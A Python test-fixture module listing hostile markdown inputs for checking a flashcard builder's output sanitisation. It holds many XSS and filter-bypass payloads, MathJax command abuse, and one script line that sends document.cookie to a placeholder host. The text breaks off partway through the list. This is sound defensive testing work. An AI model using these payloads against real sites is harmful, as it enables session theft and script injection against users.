"""Hostile markdown inputs for testing anki-build's output sanitisation.

anki-build turns markdown notes into Anki flashcards (HTML fields, math
rendered by MathJax 3 inside Anki with the delimiters \\( \\) and \\[ \\]
only, images shipped as media files).  Whatever a note contains, a generated
card field must never contain a live network URL, an event handler, a
script-capable URL (javascript:, vbscript:, data:text/html), an active or
resource-loading element, CSS that can load resources, a MathJax command that
creates links/styles/classes/ids/attributes or loads code, math delimiters
that appear only because text was decoded into them, Anki control syntax the
author did not mean, raw control characters, or a media path that escapes the
notes folder.

Format
------
``VECTORS: list[tuple[str, str]]`` -- each item is ``(short_id, markdown_text)``.

* ``short_id`` is unique and snake_case.  Its prefix names the group:
  ``html_``, ``url_``, ``md_``, ``mj_``, ``delim_``, ``anki_``, ``path_``.
* ``markdown_text`` is a complete small notes file (a ``#`` title plus one or
  more card forms).  If the hostile part were harmless the file would produce
  at least one card.  The card forms vary: a ``**术语**：定义`` concept line,
  a ``Q: …`` / ``A: …`` pair, a paragraph with an ``==…==`` cloze, a label
  sentence followed by a ``$$…$$`` formula block, a ``### 为什么…？`` heading
  followed by an answer paragraph, a list of concept items under a heading,
  and a table under a heading.  Block-level hostile HTML is placed under a
  heading so it lands inside that card's answer.

``GROUPS: dict[str, list[str]]`` maps each group name (html, url, markdown,
mathjax, delimiters, anki, paths) to its ids, in order.

Control characters (``\\x1f`` Anki's field separator, ``\\x00``, ``\\x1e``, …)
are real characters in the strings; the source file itself only contains
escape sequences.  Hosts are the placeholder ``host`` / ``h``.

All note text here was written for this file.
"""

import re

# ---------------------------------------------------------------------------
# card-form helpers (each returns a fragment; _doc adds the file title)
# ---------------------------------------------------------------------------

_TITLE = "# 安全测试笔记\n\n"


def _concept(term, body):
    """`**术语**：定义` concept line."""
    return "**" + term + "**：" + body


def _qa(q, a):
    """`Q:` / `A:` pair."""
    return "Q: " + q + "\nA: " + a


def _cloze(before, hidden, after):
    """Paragraph with one ==highlight== cloze."""
    return before + "==" + hidden + "==" + after


def _formula(label, tex):
    """Label sentence followed by a $$ block."""
    return label + "\n\n$$\n" + tex + "\n$$"


def _heading(q, answer):
    """`### 为什么…？` heading followed by an answer paragraph/block."""
    return "### 为什么" + q + "？\n\n" + answer


def _doc(body):
    return _TITLE + body + "\n"


# ---------------------------------------------------------------------------
# html: dangerous elements, attributes, and parser-confusion tricks
# ---------------------------------------------------------------------------

_HTML = [
    ("html_script_inline", _concept("脚本", "页面中的<script>alert(1)</script>程序会在加载时运行")),
    (
        "html_script_block",
        _heading(
            "脚本块不能出现在卡片里",
            "<script>\nfetch('//host/x?c=' + document.cookie)\n</script>\n\n因为它会在复习时执行。",
        ),
    ),
    ("html_script_mixed_case_src", _qa("什么是外部脚本？", "<ScRiPt SRC=//host/x.js></sCrIpT>从别的地方加载的代码。")),
    ("html_script_unclosed", _cloze("浏览器遇到", "<script>alert(1)", "后会一直读到结束标签。")),
    ("html_script_svg_namespace", _concept("矢量脚本", '<svg><script href="//host/x.js"></script></svg>图形里的脚本')),
    ("html_iframe", _heading("框架需要隔离", '<iframe src="//host/x"></iframe>\n\n因为框架会加载外部页面。')),
    (
        "html_iframe_srcdoc",
        _concept("内嵌文档", '<iframe srcdoc="&lt;img src=//host/x onerror=alert(1)&gt;"></iframe>框架内的文档'),
    ),
    ("html_object_data", _qa("对象元素做什么？", '<object data="//host/x.swf"></object>嵌入插件内容。')),
    (
        "html_object_param",
        _qa("参数元素做什么？", '<object><param name="movie" value="http://host/x.swf"></object>给插件传参。'),
    ),
    ("html_embed", _concept("嵌入", '<embed src="http://host/x.swf">插件内容')),
    ("html_applet", _qa("小程序是什么？", '<applet code="X.class" codebase="//host/"></applet>旧式插件。')),
    (
        "html_link_stylesheet",
        _heading("外部样式表危险", '<link rel="stylesheet" href="//host/x.css">\n\n因为它会从网络加载样式。'),
    ),
    (
        "html_link_import",
        _heading("导入链接危险", "<link rel=import href=http://host/x.html>\n\n因为它会加载整份文档。"),
    ),
    (
        "html_meta_refresh",
        _heading(
            "页面会自动跳转", '<meta http-equiv="refresh" content="0;url=//host/x">\n\n因为刷新指令指定了新地址。'
        ),
    ),
    (
        "html_meta_refresh_case",
        _qa("刷新指令写成大写还有效吗？", '<META HTTP-EQUIV=Refresh CONTENT="0; URL=javascript:alert(1)">有效。'),
    ),
    (
        "html_base_href",
        _heading(
            "相对路径会变成远程地址", '<base href="//host/">\n\n因为基址改变后 ![示意](diagram.png) 会相对它解析。'
        ),
    ),
    (
        "html_form_action",
        _heading(
            "表单会泄露输入",
            '<form action="//host/x"><input name="q"><button>提交</button></form>\n\n因为提交目标在外部。',
        ),
    ),
    (
        "html_button_formaction",
        _concept("提交按钮", '<form><button formaction="javascript:alert(1)">确定</button></form>覆盖表单目标'),
    ),
    ("html_isindex_action", _concept("索引输入", '<isindex action="javascript:alert(1)" type="image">旧式搜索框')),
    ("html_svg_use_href", _concept("符号复用", '<svg><use href="//host/x.svg#a"/></svg>引用外部图形')),
    (
        "html_svg_use_xlink",
        _qa("旧式引用怎么写？", '<svg><use xlink:href="http://host/x.svg#a"></use></svg>用命名空间属性。'),
    ),
    (
        "html_svg_image_href",
        _cloze("图形中的位图通过", '<svg><image href="//host/x.png" width="10" height="10"/></svg>', "引入。"),
    ),
    ("html_svg_onload", _concept("矢量图加载", '<svg onload="alert(1)"><circle r="5"/></svg>事件在绘制前触发')),
    (
        "html_svg_a_xlink",
        _qa(
            "矢量图中的链接？",
            '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">点</text></a></svg>可以点击。',
        ),
    ),
    (
        "html_svg_animate_href",
        _concept(
            "动画属性",
            '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="10">点</text></a></svg>动态改写',
        ),
    ),
    (
        "html_svg_set_href",
        _concept(
            "设置属性",
            '<svg><image width="9" height="9"><set attributeName="href" to="//host/x.png"/></image></svg>延迟赋值',
        ),
    ),
    (
        "html_svg_foreign_object",
        _qa(
            "外来对象是什么？",
            '<svg><foreignObject width="9" height="9"><img src="//host/x.png"></foreignObject></svg>矢量图里的普通元素。',
        ),
    ),
    (
        "html_svg_style_breakout",
        _concept("矢量样式", "<svg><style><img src=//host/x.png onerror=alert(1)></style></svg>外来内容中的样式"),
    ),
    ("html_math_href", _concept("数学链接", '<math href="javascript:alert(1)"><mi>x</mi></math>可以点击的公式')),
    ("html_math_mi_xlink", _qa("公式标识符能带链接吗？", '<math><mi xlink:href="//host/x">y</mi></math>能。')),
    (
        "html_math_maction",
        _concept(
            "公式动作",
            '<math><maction actiontype="statusline" href="javascript:alert(1)"><mi>x</mi><mtext>提示</mtext></maction></math>交互元素',
        ),
    ),
    (
        "html_mxss_mglyph_style",
        _heading(
            "重新解析会改变结构",
            "<math><mtext><table><mglyph><style><img src=//host/x.png onerror=alert(1)></style></mglyph></table></mtext></math>\n\n因为命名空间切换导致样式内容被当作标签。",
        ),
    ),
    (
        "html_style_tag_url",
        _heading("样式标签可以加载图片", "<style>p{background:url(//host/x.png)}</style>\n\n因为背景属性接受地址。"),
    ),
    (
        "html_style_import",
        _heading("样式可以导入", '<style>@import "http://host/x.css";</style>\n\n因为导入规则会发起请求。'),
    ),
    (
        "html_style_import_escaped",
        _heading(
            "转义的导入仍然有效", r"<style>@\69mport url(//host/x.css);</style>" + "\n\n因为样式解析器会先解码转义。"
        ),
    ),
    (
        "html_style_attr_url",
        _concept("背景图", "<span style=\"background-image:url('//host/x.png')\">文字</span>后面的图片"),
    ),
    (
        "html_style_attr_expression",
        _qa("表达式样式是什么？", '<div style="width:expression(alert(1))">块</div>旧式动态样式。'),
    ),
    (
        "html_style_attr_css_escape",
        _concept("转义地址", r'<span style="background:u\72l(//host/x.png)">字</span>被解码成函数'),
    ),
    (
        "html_style_attr_css_escape_full",
        _concept("全转义地址", r'<span style="background:\75\72\6c(//host/x.png)">字</span>全部用编码'),
    ),
    (
        "html_style_attr_comment",
        _concept("带注释的样式", '<span style="background:/**/url(//host/x.png)">字</span>注释不影响解析'),
    ),
    (
        "html_style_attr_entity",
        _concept("实体样式", '<span style="background:&#117;rl(//host/x.png)">字</span>实体在属性中被解码'),
    ),
    (
        "html_style_attr_binding",
        _qa(
            "绑定样式做什么？", '<span style="-moz-binding:url(//host/x.xml#a);behavior:url(x.htc)">字</span>附加行为。'
        ),
    ),
    (
        "html_style_attr_image_set",
        _concept("图像集", "<span style=\"background:image-set('//host/x.png' 1x)\">字</span>按分辨率选图"),
    ),
    (
        "html_style_attr_font_face",
        _heading(
            "字体也能发请求", "<style>@font-face{font-family:f;src:url(//host/x.woff)}</style>\n\n因为字体源是地址。"
        ),
    ),
    ("html_img_srcset", _concept("多分辨率图", '<img src="a.png" srcset="//host/x.png 2x">按屏幕选图')),
    (
        "html_picture_source",
        _qa(
            "图片元素怎样选格式？", '<picture><source srcset="//host/x.webp"><img src="a.png"></picture>由浏览器挑选。'
        ),
    ),
    ("html_video_poster", _concept("封面图", '<video poster="//host/x.jpg"></video>播放前显示')),
    ("html_video_src", _qa("视频从哪里来？", "<video src=http://host/x.mp4 controls></video>从远程地址。")),
    ("html_audio_src", _cloze("音频元素", '<audio src="//host/x.mp3" autoplay></audio>', "会自动播放。")),
    ("html_source_tag", _concept("媒体源", '<audio controls><source src="https://host/x.ogg"></audio>候选文件')),
    ("html_track_tag", _concept("字幕轨", '<video src="a.mp4"><track src="//host/x.vtt" default></video>附加文字')),
    ("html_input_image", _qa("图片按钮怎么写？", '<input type="image" src="//host/x.png">提交表单。')),
    (
        "html_frameset",
        _heading("框架集已经淘汰", '<frameset><frame src="//host/x"></frameset>\n\n因为它把页面切成多块。'),
    ),
    ("html_frame_single", _concept("框架", '<frame src="javascript:alert(1)">单个窗格')),
    ("html_body_background", _concept("页面背景", '<body background="//host/x.png">整页铺图')),
    (
        "html_table_background",
        _heading(
            "表格能显示背景图", '<table background="//host/x.png"><tr><td>格</td></tr></table>\n\n因为旧属性仍被支持。'
        ),
    ),
    (
        "html_td_background",
        _concept("单元格背景", '<table><tr><td background="http://host/x.png">格</td></tr></table>逐格铺图'),
    ),
    ("html_img_lowsrc", _concept("低清图", '<img lowsrc="//host/x.png" src="a.png">先显示的版本')),
    ("html_img_dynsrc", _concept("动态源", '<img dynsrc="//host/x.avi" src="a.png">旧式视频')),
    ("html_a_ping", _qa("链接追踪怎么做？", '<a href="#x" ping="//host/x">链接</a>点击时通知。')),
    ("html_img_data_src_then_src", _concept("延迟加载", '<img data-src="a.png" src="//host/x.png">真实地址在后')),
    ("html_img_src_then_data_src", _concept("延迟加载二", '<img src="//host/x.png" data-src="a.png">真实地址在前')),
    ("html_img_duplicate_src", _concept("重复属性", "<img src=a.png src=//host/x>只有一个生效")),
    ("html_img_duplicate_src_first_remote", _concept("重复属性二", "<img src=//host/x SRC=a.png>第一个生效")),
    ("html_img_onerror", _cloze("图片失败时会触发", "<img src=x onerror=alert(1)>", "事件。")),
    (
        "html_img_slash_separated_attrs",
        _concept("斜杠分隔", '<img/src="a.png"/onerror="alert(1)">属性之间可以没有空格'),
    ),
    ("html_img_attrs_no_space", _concept("紧贴属性", '<img src="a.png"onerror="alert(1)">引号后直接接属性')),
    (
        "html_img_formfeed_separator",
        _concept("换页分隔", "<img\x0csrc=//host/x.png\x0conerror=alert(1)>换页符也是空白"),
    ),
    ("html_img_tab_separator", _concept("制表分隔", "<img\tsrc=//host/x.png>制表符也是空白")),
    ("html_img_newline_attr", _qa("属性可以换行吗？", '<img src="a.png"\nonerror="alert(1)">可以。')),
    ("html_img_event_mixed_case", _concept("大小写事件", '<IMG SRC="a.png" OnErRoR="alert(1)">名字不区分大小写')),
    ("html_img_event_entity_body", _concept("实体事件", '<img src="x" onerror="&#97;lert(1)">处理代码被解码')),
    ("html_img_backtick_value", _concept("反引号值", "<img src=`//host/x.png`>旧浏览器的引号")),
    ("html_body_onload", _concept("载入事件", '<body onload="alert(1)">页面就绪时')),
    (
        "html_details_ontoggle",
        _qa("折叠元素有什么事件？", "<details open ontoggle=alert(1)><summary>展开</summary>内容</details>切换事件。"),
    ),
    ("html_b_onmouseover_unquoted", _concept("悬停", "<b onmouseover=alert(1)>粗体</b>鼠标经过")),
    ("html_marquee_onstart", _concept("滚动字幕", "<marquee onstart=alert(1)>字</marquee>开始滚动")),
    ("html_a_href_javascript", _qa("伪协议链接？", '<a href="javascript:alert(1)">点我</a>点击执行。')),
    (
        "html_area_href",
        _concept("热区", '<map name="m"><area href="javascript:alert(1)" shape="default"></map>图上的链接'),
    ),
    ("html_nested_lt_reform", _concept("嵌套尖括号", r'<<img alt=">img src=/\host/x.png>替换后重组')),
    ("html_img_in_alt", _concept("替代文字", '<img src="x.png" alt="<img src=//h/x>">里面像标签')),
    ("html_img_slash_src", _concept("斜杠属性", "<img/src=//h/x>没有空格")),
    ("html_img_unterminated_end", _concept("未闭合标签", "结尾处的图片 <img src=//h/x//")),
    (
        "html_unclosed_img_then_paragraph",
        _heading(
            "结构是稳定的",
            '<div class="fig">示意图\n<img \n\nsrc=//host/x.png onerror=alert(1)> 因为每个节点都有两个支撑。',
        ),
    ),
    (
        "html_unclosed_quote_then_paragraph",
        _heading(
            "图片说明会串行",
            '<div>\n<img src="a.png" alt="\n\n" src=//host/x.png onerror=alert(1)> 因为属性引号跨越了段落。',
        ),
    ),
    ("html_comment_trick", _concept("注释", "<!--><img src=//h/x>-->看起来被注释")),
    ("html_comment_short_dash", _concept("短注释", "<!---><img src=//h/x>-->三个横线")),
    ("html_comment_bang_close", _concept("感叹号注释", "<!-- a --!><img src=//h/x>-->另一种结束")),
    ("html_cdata_trick", _concept("字符数据", "<![CDATA[><img src=//h/x>]]>在网页中不是字符数据")),
    ("html_processing_instruction", _concept("处理指令", "<?xml ><img src=//h/x>?>伪注释在第一个尖括号处结束")),
    ("html_bogus_end_tag", _concept("伪结束标签", "</ x><img src=//h/x>空格开头的结束标签")),
    (
        "html_noscript_title",
        _qa("无脚本块怎么解析？", '<noscript><p title="</noscript><img src=//h/x>"></noscript>取决于脚本开关。'),
    ),
    ("html_template", _concept("模板", "<template><img src=//h/x onerror=alert(1)></template>惰性内容")),
    (
        "html_textarea_breakout",
        _qa(
            "文本域里的标签？",
            '<textarea><p title="</textarea><img src=//h/x onerror=alert(1)>"></textarea>原始文本提前结束。',
        ),
    ),
    ("html_textarea_plain", _concept("文本域", "<textarea><img src=//h/x></textarea>里面是纯文本")),
    ("html_title_breakout", _concept("标题元素", '<title><a title="</title><img src=//h/x>"></title>原始文本')),
    ("html_xmp_breakout", _concept("示例块", '<xmp><p title="</xmp><img src=//h/x>"></xmp>旧式原样显示')),
    ("html_plaintext", _concept("纯文本块", "<plaintext><img src=//h/x>之后全是文本")),
    ("html_embed_in_cloze", _cloze("插件通过", "<embed src=//h/x>", "嵌入页面。")),
    ("html_nul_inside_event_name", _concept("空字符属性", '<img src="a.png" on\x00error="alert(1)">名字中夹空字符')),
]

# ---------------------------------------------------------------------------
# url: network and script URLs, and obfuscations a browser still resolves
# ---------------------------------------------------------------------------

_URL = [
    ("url_http_img", _concept("远程图", '<img src="http://host/x.png">网络图片')),
    ("url_https_link", _qa("安全链接？", '<a href="https://host/x">外链</a>仍然是网络地址。')),
    ("url_https_upper", _concept("大写协议", '<img src="HTTPS://HOST/X.PNG">协议不区分大小写')),
    ("url_ftp_img", _concept("文件传输", '<img src="ftp://host/x.png">旧协议')),
    ("url_ws_link", _concept("套接字", '<a href="ws://host/x">连接</a>实时通道')),
    ("url_wss_upper", _concept("加密套接字", '<a href="WSS://host/x">连接</a>大写')),
    ("url_scheme_relative", _cloze("省略协议的地址", '<img src="//host/x.png">', "继承当前协议。")),
    ("url_triple_slash", _concept("三斜杠", '<img src="///host/x.png">多余斜杠被忽略')),
    ("url_slash_backslash", _concept("斜杠反斜杠", r'<img src="/\host/x.png">反斜杠当作斜杠')),
    ("url_double_backslash", _concept("双反斜杠", r'<img src="\\host\x.png">网络路径写法')),
    ("url_backslash_slash", _concept("反斜杠斜杠", r'<img src="\/host/x.png">混合写法')),
    ("url_http_no_slashes", _concept("无斜杠协议", '<img src="http:host/x.png">特殊协议补全斜杠')),
    ("url_http_one_slash", _concept("单斜杠协议", '<img src="http:/host/x.png">同样被补全')),
    ("url_https_backslashes", _concept("反斜杠协议", r'<img src="https:\\host\x.png">反斜杠被规范化')),
    ("url_entity_dec_slashes", _concept("十进制实体", '<img src="&#47;&#47;host/x.png">解码后是双斜杠')),
    ("url_entity_hex_slashes", _concept("十六进制实体", '<img src="&#x2f;&#X2F;host/x.png">大小写混合')),
    ("url_entity_named_slashes", _concept("命名实体", '<img src="&sol;&sol;host/x.png">斜杠的名字')),
    ("url_entity_backslash", _concept("反斜杠实体", '<img src="/&#92;host/x.png">解码出反斜杠')),
    ("url_entity_no_semicolon", _concept("无分号实体", '<img src="&#47&#47host/x.png">分号可省')),
    ("url_entity_zero_padded", _qa("补零实体？", '<a href="&#0000106;avascript:alert(1)">点</a>前导零无效果。')),
    ("url_tab_between_slashes", _concept("斜杠间制表", '<img src="/&#9;/host/x.png">制表符被删除')),
    ("url_newline_between_slashes", _concept("斜杠间换行", '<img src="/\n/host/x.png">换行符被删除')),
    ("url_percent_host", _concept("编码主机", '<img src="//%68%6f%73%74/x.png">主机名被解码')),
    ("url_percent_slashes", _concept("编码斜杠", '<img src="%2f%2fhost/x.png">工具解码后是双斜杠')),
    ("url_percent_scheme", _concept("编码协议", '<img src="http%3A%2F%2Fhost/x.png">整体编码')),
    (
        "url_srcset_second_candidate",
        _concept("第二候选", '<img src="a.png" srcset="a.png 1x, //host/x.png 2x">高清屏用后者'),
    ),
    ("url_js_tab_entity", _qa("制表实体能藏协议吗？", '<a href="jav&#x09;ascript:alert(1)">点</a>能。')),
    ("url_js_newline_entity", _qa("换行实体能藏协议吗？", '<a href="jav&#x0A;ascript:alert(1)">点</a>能。')),
    ("url_js_cr_entity", _concept("回车实体", '<a href="java&#13;script:alert(1)">点</a>也会被删除')),
    ("url_js_literal_tab", _concept("真制表符", '<a href="jav\tascript:alert(1)">点</a>协议中间')),
    ("url_js_literal_newline", _concept("真换行符", '<a href="java\nscript:alert(1)">点</a>协议中间')),
    ("url_js_mixed_case", _concept("混合大小写", '<a href="JaVaScRiPt:alert(1)">点</a>协议名')),
    ("url_js_leading_spaces", _concept("前导空格", '<a href="   javascript:alert(1)">点</a>被裁掉')),
    ("url_js_leading_control_entity", _concept("前导控制实体", '<a href="&#x01;javascript:alert(1)">点</a>被裁掉')),
    ("url_js_leading_control_literal", _concept("前导控制符", '<a href="\x01\x02 javascript:alert(1)">点</a>被裁掉')),
    ("url_js_entity_colon_named", _concept("冒号实体", '<a href="javascript&colon;alert(1)">点</a>命名冒号')),
    ("url_js_entity_colon_dec", _concept("冒号数字实体", '<a href="javascript&#58;alert(1)">点</a>数字冒号')),
    (
        "url_js_fully_encoded",
        _concept(
            "全实体协议",
            '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点</a>逐字编码',
        ),
    ),
    ("url_vbscript", _qa("旧脚本协议？", '<a href="vbscript:msgbox(1)">点</a>旧浏览器支持。')),
    ("url_vbscript_upper_img", _concept("旧脚本图片", '<img src="VBScript:msgbox(1)">大写')),
    ("url_data_text_html", _concept("数据网页", '<a href="data:text/html,<script>alert(1)</script>">点</a>内嵌网页')),
    (
        "url_data_html_base64",
        _concept(
            "编码网页", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>编码后的网页'
        ),
    ),
    (
        "url_data_mixed_case",
        _concept("混合数据", '<a href="DaTa:TeXt/HtMl,%3Cscript%3Ealert(1)%3C/script%3E">点</a>大小写'),
    ),
    ("url_data_leading_space_entity", _concept("数据前导", '<a href=" &#x09;data:text/html,x">点</a>空白被裁掉')),
    (
        "url_data_svg_object",
        _concept("矢量数据", '<object data="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"></object>可执行的图形'),
    ),
    (
        "url_js_void_wrapping_img",
        _concept("图片链接", '<a href="javascript:void(0)"><img src="a.png"></a>空操作也是伪协议'),
    ),
]

# ---------------------------------------------------------------------------
# markdown: images, links, reference definitions, autolinks, embeds
# ---------------------------------------------------------------------------

_MARKDOWN = [
    ("md_img_scheme_relative", _concept("远程图", "![a](//host/x.png) 省略协议")),
    ("md_img_slash_backslash", _concept("反斜杠图", r"![a](/\host/x.png) 混合斜杠")),
    ("md_img_four_backslashes", _concept("网络路径图", r"![a](\\\\host/x.png) 转义后是两个反斜杠")),
    ("md_img_http", _qa("图片从哪里来？", "![a](http://host/x.png) 来自网络。")),
    ("md_img_angle_javascript", _concept("尖括号目标", "![a](<javascript:alert(1)>) 允许空格的写法")),
    ("md_img_angle_scheme_relative", _concept("尖括号远程", "![a](<//host/x.png>) 尖括号包裹")),
    ("md_img_whitespace_padding", _concept("空白包裹", '![a](   //host/x.png   "标题") 前后空白')),
    ("md_img_dest_entity", _concept("实体目标", "![a](&#47;&#47;host/x.png) 目标中的实体会被解码")),
    ("md_img_dest_percent_host", _concept("编码主机图", "![a](//%68ost/x.png) 主机名编码")),
    ("md_img_dest_http_no_slash", _concept("无斜杠图", "![a](http:host/x.png) 浏览器会补全")),
    ("md_img_alt_quote_breakout", _concept("替代文字引号", '![" onerror="alert(1)](a.png) 试图跳出属性')),
    ("md_img_title_quote_breakout", _concept("标题引号", r'![a](a.png "t\" onerror=\"alert(1)") 转义的引号')),
    ("md_img_nested_in_alt", _concept("嵌套图片", "![![b](//h/x.png)](a.png) 替代文字中又有图")),
    ("md_link_wrapping_image", _concept("图片链接", "[![a](//h/x.png)](a.png) 链接包图")),
    ("md_img_in_list_item", "### 图示\n\n- **结构**：见 ![a](//host/x.png)\n- **层次**：由上到下"),
    ("md_img_in_table_cell", "### 图例里有什么？\n\n| 名称 | 图 |\n| --- | --- |\n| 节点 | ![a](//host/x.png) |"),
    ("md_img_in_heading", _heading("![a](//host/x.png) 会显示", "因为标题中也能放图片。")),
    ("md_link_javascript", _qa("伪协议链接？", "[x](javascript:alert(1)) 点击执行。")),
    ("md_link_javascript_entity", _concept("实体协议链接", "[x](&#106;avascript:alert(1)) 实体被解码")),
    ("md_link_javascript_escaped_colon", _concept("转义冒号", r"[x](javascript\:alert(1)) 反斜杠被去掉")),
    ("md_link_javascript_upper", _concept("大写协议链接", "[x](JAVASCRIPT:alert(1)) 大写")),
    ("md_link_angle_leading_space", _concept("尖括号空格", "[x](< javascript:alert(1)>) 前导空格")),
    ("md_link_vbscript", _concept("旧脚本链接", "[x](vbscript:msgbox(1)) 旧协议")),
    ("md_link_data_html", _concept("数据链接", "[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E) 内嵌网页")),
    ("md_link_scheme_relative", _cloze("参考资料在", "[这里](//host/x)", "可以找到。")),
    ("md_link_https", _concept("外链", "[资料](https://host/x) 普通外部链接")),
    ("md_ref_image", _concept("引用图", "![a][r] 通过引用定义") + "\n\n[r]: //host/x.png"),
    ("md_ref_image_collapsed", _concept("折叠引用", "![r][] 空方括号") + "\n\n[r]: http://host/x.png"),
    ("md_ref_image_shortcut", _concept("简写引用", "![r] 没有第二对括号") + "\n\n[r]: //host/x.png"),
    ("md_ref_case_insensitive", _concept("大小写引用", "![a][r] 标签不分大小写") + "\n\n[R]: /\\host/x.png"),
    ("md_ref_defined_first", '[pic]: <//host/x.png> "图"\n\n' + _qa("引用能先定义吗？", "能，![a][pic] 照样显示。")),
    ("md_ref_link_angle_js", _concept("引用伪协议", "[点这里][r] 链接引用") + "\n\n[r]: <javascript:alert(1)>"),
    ("md_ref_multiline", _concept("多行引用", "![a][r] 定义跨行") + '\n\n[r]:\n  //host/x.png\n  "标题"'),
    ("md_ref_in_blockquote", _concept("引用块定义", "![a][q] 定义在引用块里") + "\n\n> [q]: //host/x.png"),
    ("md_ref_entity_dest", _concept("实体引用", "![a][e] 目标含实体") + "\n\n[e]: &#47;&#47;host/x.png"),
    ("md_autolink_http", _concept("自动链接", "<http://host/x> 尖括号里的地址")),
    ("md_autolink_javascript", _concept("自动伪协议", "<javascript:alert(1)> 尖括号里的脚本")),
    ("md_autolink_vbscript_upper", _concept("自动旧协议", "<VBSCRIPT:msgbox(1)> 大写")),
    ("md_autolink_ftp", _qa("文件传输链接？", "<ftp://host/x> 也是网络地址。")),
    ("md_bare_url_linkify", _concept("裸地址", "https://host/x 和 www.host.com/x 可能被自动识别")),
    ("md_footnote_link", _concept("脚注", "详见说明[^1]") + "\n\n[^1]: [来源](//host/x)"),
    ("md_obsidian_embed_scheme_relative", _concept("嵌入远程", "![[//host/x.png]] 双方括号嵌入")),
    ("md_obsidian_embed_http", _qa("嵌入网络图？", "![[http://host/x.png]] 不应被下载或引用。")),
    ("md_obsidian_embed_https_size", _concept("带尺寸嵌入", "![[https://host/x.png|200]] 指定宽度")),
    ("md_obsidian_embed_backslash", _concept("反斜杠嵌入", r"![[/\host/x.png]] 混合斜杠")),
    ("md_obsidian_embed_alias_remote", _concept("别名嵌入", "![[a.png|//host/x.png]] 别名像地址")),
    ("md_obsidian_embed_quote_breakout", _concept("引号嵌入", '![[x.png" onerror="alert(1)]] 文件名带引号')),
    ("md_obsidian_wikilink_javascript", _concept("维基链接", "[[javascript:alert(1)]] 双方括号链接")),
    ("md_code_span_html", _concept("代码中的标签", "`<img src=//host/x onerror=alert(1)>` 应该原样显示")),
]

# ---------------------------------------------------------------------------
# mathjax: link/style/class/id/attribute/load commands in every context,
# followed by obfuscated forms
# ---------------------------------------------------------------------------

_MJ_PAYLOADS = [
    ("href_js", r"\href{javascript:alert(1)}{x}"),
    ("href_scheme_relative", r"\href{//host/x}{x}"),
    ("href_http", r"\href{http://host/x}{x}"),
    ("style_url", r"\style{background:url(//host/x)}{x}"),
    ("class", r"\class{x}{y}"),
    ("css_id", r"\cssId{x}{y}"),
    ("unicode_font", r"\unicode[font]{x41}"),
    ("require_http", r"\require{http://host/x.js}"),
    ("def_href", r"\def\x{\href{javascript:alert(1)}{y}}\x"),
    ("newcommand_href", r"\newcommand{\x}{\href{//host/x}{y}}\x"),
    ("let_href", r"\let\h\href\h{javascript:alert(1)}{x}"),
    ("declare_math_operator", r"\DeclareMathOperator{\hop}{\href{//host/x}{y}}\hop"),
    ("bbox_url", r"\bbox[background:url(//host/x)]{x}"),
    ("enclose_href", r"\enclose{circle}[href=javascript:alert(1)]{x}"),
    ("mmltoken_href", r'\mmlToken{mi}[href="javascript:alert(1)"]{x}'),
    ("toggle", r"\toggle{\href{javascript:alert(1)}{a}}{b}\endtoggle"),
    ("mathtip", r"\mathtip{x}{\href{//host/x}{y}}"),
    ("texttip", r"\texttip{x}{提示}"),
    ("color_css", r"\color{red;background:url(//h/x)}{x}"),
    ("colorbox_css", r"\colorbox{red;background:url(//h/x)}{x}"),
    ("fcolorbox_css", r"\fcolorbox{red}{blue;background:url(//h/x)}{x}"),
    ("data_attr", r"\data{href=javascript:alert(1)}{x}"),
    ("set_options", r"\setOptions[require]{allow={html=true}}\require{html}\href{//host/x}{x}"),
    ("require_html_style", r"\require{html}\style{background:url(//host/x)}{x}"),
]

# "@@" is replaced by the payload.
_MJ_CONTEXTS = [
    ("inline_dollar", r"""**行内公式**：当 $@@$ 成立时，两边同时取最大值。"""),
    (
        "display_dollar",
        r"""下面的式子给出了面积的计算方法：

$$
S = @@
$$""",
    ),
    (
        "paren",
        r"""Q: 式子 \(@@\) 在这里代表什么？
A: 它代表一个可以被约去的因子。""",
    ),
    (
        "bracket",
        r"""### 为什么两边可以同时平方？

因为两边都是非负数：

\[
@@ \geq 0
\]""",
    ),
    (
        "aligned",
        r"""下面的推导说明了结论：

\begin{aligned}
a &= @@ \\
b &= a + 1
\end{aligned}""",
    ),
    ("cloze", r"""函数在端点处的取值是 ==$@@$==，这一点需要单独检验。"""),
    ("concept", r"""**边界项**：形如 \(@@\) 的附加项，在积分时会被消去。"""),
    (
        "qa",
        r"""Q: 为什么要引入辅助量？
A: 为了让方程保持对称，即 $@@ = 0$。""",
    ),
    (
        "heading",
        r"""### 为什么 $@@$ 不随时间变化？

因为系统没有外力做功，能量守恒。""",
    ),
    (
        "list",
        r"""### 变换的性质

- **线性**：\(@@\) 对加法封闭
- **可逆**：存在唯一的逆变换""",
    ),
    (
        "table",
        r"""### 这些符号是什么意思？

| 符号 | 含义 |
| --- | --- |
| $@@$ | 辅助变量 |
| $n$ | 样本数量 |""",
    ),
]

_MATHJAX = [
    ("mj_" + pname + "_" + cname, ctx.replace("@@", payload))
    for pname, payload in _MJ_PAYLOADS
    for cname, ctx in _MJ_CONTEXTS
]

_MATHJAX += [
    ("mj_obf_href_spaces", _concept("空格命令", r"$\href {javascript:alert(1)} {x}$ 参数前有空格")),
    ("mj_obf_href_comment_newline_display", _formula("注释换行后的链接：", "\\href%comment\n{javascript:alert(1)}{x}")),
    ("mj_obf_href_comment_newline_inline", _qa("注释能拆开命令吗？", "能，$\\href%c\n{//host/x}{x}$ 仍是一个链接。")),
    ("mj_obf_href_tab", _concept("制表命令", "$\\href\t{//host/x}{x}$ 命令后是制表符")),
    ("mj_obf_href_double_braces", _concept("双层括号", r"\(\href{{javascript:alert(1)}}{x}\) 多一层花括号")),
    ("mj_obf_href_split_braces", _concept("拆分括号", r"$\href{java{}script:alert(1)}{x}$ 中间插入空组")),
    ("mj_obf_href_in_text_dollar", _formula("文本中的公式：", r"\text{见 $\href{//host/x}{这里}$ 的说明}")),
    (
        "mj_obf_href_in_text_paren",
        _heading(
            "文本模式里还能有链接",
            r"因为 \[ \text{例如 \(\href{javascript:alert(1)}{x}\) 这样} \] 会重新进入数学模式。",
        ),
    ),
    (
        "mj_obf_href_in_aligned",
